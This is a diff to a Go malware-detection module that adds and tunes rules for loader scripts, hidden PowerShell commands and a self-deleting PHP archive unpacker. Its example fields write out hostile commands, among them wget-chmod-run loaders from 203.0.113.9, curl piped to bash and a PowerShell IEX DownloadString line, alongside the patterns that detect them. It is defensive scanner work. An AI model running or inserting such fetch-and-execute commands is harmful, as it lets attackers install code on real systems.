@@ -3,6 +3,7 @@
 package content
 
 import (
+	"bytes"
 	"net/netip"
 	"slices"
 	"strings"
@@ -93,12 +94,18 @@ var serverPlants = []plant{
 	{what: "a script that fetches a program for each kind of processor and runs it", kind: Malicious, fetched: true, source: atLoaders,
 		example: strings.Repeat("cd /tmp; wget http://203.0.113.9/mips; chmod 777 mips; ./mips; rm -rf mips\n", 3),
 		parts:   []part{like(`([^\n]*(wget|curl|tftp|ftpget)\b[^\n]{0,200}(;|&&|\n)\s*chmod +(\+x|a\+x|[0-7]*7[0-7]*) +[^\n]{0,80}(;|&&|\n)\s*(sh |\./)[^\n]*\n+(rm [^\n]*\n+)?){3}`, "chmod")}},
+	{what: "a script that fetches a program from a host without a name into a folder that everybody may write, and runs it", kind: Malicious, fetched: true, source: atLoaders,
+		example: "#!/bin/sh\nwget http://203.0.113.9/m -O /tmp/m; chmod +x /tmp/m; /tmp/m\n",
+		parts:   []part{{[]string{"chmod"}, fetchesFromAddress}, like(`chmod +\S+ +\S*[^;&\n]*(;|&|\n)\s*(nohup +|setsid +|(ba)?sh +)*(`+scratch+`|\./)\S`, "/tmp/", "/dev/shm/")}},
+	{what: "a page that unpacks an archive and removes itself", kind: Suspicious, source: "MITRE ATT&CK, T1608.005 (link target) and T1070.004 (file deletion)",
+		example: `<?php $z=new ZipArchive; $z->open("a.zip"); $z->extractTo("."); unlink(__FILE__);`,
+		parts:   []part{marked("ziparchive", "phardata"), marked("extractto"), marked("unlink(__file__)", "unlink( __file__")}},
 	{what: "a script that runs what it fetches from a host without a name", kind: LikelyMalicious, fetched: true, where: anywhere, source: atLoaders,
 		example: "#!/bin/sh\ncurl -s http://203.0.113.9/x.sh | bash\n",
 		parts:   []part{{[]string{"curl", "wget", ".download", "certutil", "bitsadmin"}, fetchesFromAddress}}},
 	{what: "a command of PowerShell that hides its window and its text", kind: Malicious, fetched: true, source: "MITRE ATT&CK, T1059.001 and T1564.003 (hidden window)",
 		example: "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQA",
-		parts:   []part{like(`-e(c|n|nc|ncodedcommand)? +["']?[a-z0-9+/=]{40}`, "powershell"), like(`-w(in(dowstyle)?)? +["']?(h(idden)?|1)\b`, "powershell")}},
+		parts:   []part{like(`-e(c|n|nc|ncodedcommand)? +["']?[a-z0-9+/=]{8}`, "powershell"), like(`-w(in(dowstyle)?)? +["']?(h(idden)?|1)\b`, "powershell")}},
 	{what: "a command of PowerShell that hides its window and fetches a program", kind: Malicious, fetched: true, source: "MITRE ATT&CK, T1059.001 and T1564.003 (hidden window)",
 		example: `powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://www.example/a')`,
 		parts:   []part{like(`\bpowershell\b[^\n]*-w(in(dowstyle)?)? +["']?(h(idden)?|1)\b[^\n]*(download(string|file|data)|\biwr\b|invoke-webrequest)`, "powershell")}},
@@ -147,7 +154,8 @@ var (
 	runText  = pattern.New(runsShellText + `\s*\(?\s*(?:["'][^"'\n]{0,40}["']\s*[+.&]\s*)?([$@]?\w+)|` + "`" + `[^` + "`" + `\n]{0,60}(?:#\{)?([$@]\w+)[^` + "`" + `\n]{0,60}` + "`")
 	directly = pattern.New(`(\bos\.(system|popen)|(child_process['"]\)|\b(cp|child|child_?process))\.exec(sync)?|[\s=;(]exec(sync)?|\bsystem)\s*\([^;\n]{0,80}` + toScript + `|(^|[\s;])(eval|exec|system)\s+["']?[^;\n]{0,40}\$(\{?query_string|env\{)|` + "`[^`\n]{0,80}\\$(\\{?query_string|env\\{)|`[^`\n]{0,80}#\\{params\\[" + `|subprocess\.\w+\([^\n]{0,80}` + toScript + `[^\n]{0,80}shell\s*=\s*true`)
 	// fromAddress matches a program that is fetched from an address, and handed to a shell.
-	fromAddress = pattern.New(`\b(?:curl|wget)\b[^\n|;]*\b(?:https?|ftp)://((?:\d{1,3}\.){3}\d{1,3})\b[^\n|;]*\| *(?:sudo +)?(?:/(?:usr/)?bin/)?(?:ba|da|z)?sh\b|` +
+	fromAddress = pattern.New(`\b(?:curl|wget|tftp|ftpget)\b[^\n]*?\b((?:\d{1,3}\.){3}\d{1,3})\b[^\n]*(?:;|&|\n)\s*chmod +(?:[ugoa]*\+r?w?x|[0-7]*[1357][0-7]*) |` +
+		`\b(?:curl|wget)\b[^\n|;]*\b(?:https?|ftp)://((?:\d{1,3}\.){3}\d{1,3})\b[^\n|;]*\| *(?:sudo +)?(?:/(?:usr/)?bin/)?(?:ba|da|z)?sh\b|` +
 		`\b(?:download(?:string|file|data)\s*\(|certutil\b[^\n]*-urlcache|bitsadmin\b[^\n]*/transfer)[^\n]{0,60}\bhttps?://((?:\d{1,3}\.){3}\d{1,3})\b`)
 )
 
@@ -169,7 +177,7 @@ func runsVisitors(t *passage) bool {
 // in a network of one's own are fetched from private ones.
 func fetchesFromAddress(t *passage) bool {
 	return t.matches(fromAddress) && slices.ContainsFunc(fromAddress.FindAllSubmatch(t.text, -1), func(m [][]byte) bool {
-		a, err := netip.ParseAddr(string(m[1]) + string(m[2]))
+		a, err := netip.ParseAddr(string(bytes.Join(m[1:], nil)))
 		return err == nil && !a.IsPrivate() && !a.IsLoopback()
 	})
 }
